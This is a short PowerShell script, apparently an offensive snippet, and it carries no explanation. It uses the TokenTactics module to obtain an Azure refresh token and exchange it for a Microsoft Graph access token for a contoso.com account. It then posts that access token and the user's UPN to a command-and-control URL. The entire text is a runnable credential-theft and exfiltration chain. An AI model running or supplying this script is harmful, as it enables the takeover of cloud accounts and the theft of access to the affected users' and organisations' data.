Import-Module .\TokenTactics.psd1
Get-AzureToken -Client MSGraph
$graph = Invoke-RefreshToMSGraphToken -Domain "contoso.com" -RefreshToken $response.refresh_token
$body = @{ token = $graph.access_token; upn = "j.doe@contoso.com" }
Invoke-RestMethod -Uri "https://c2.badcorp-updates.net/upload" -Method Post -Body $body
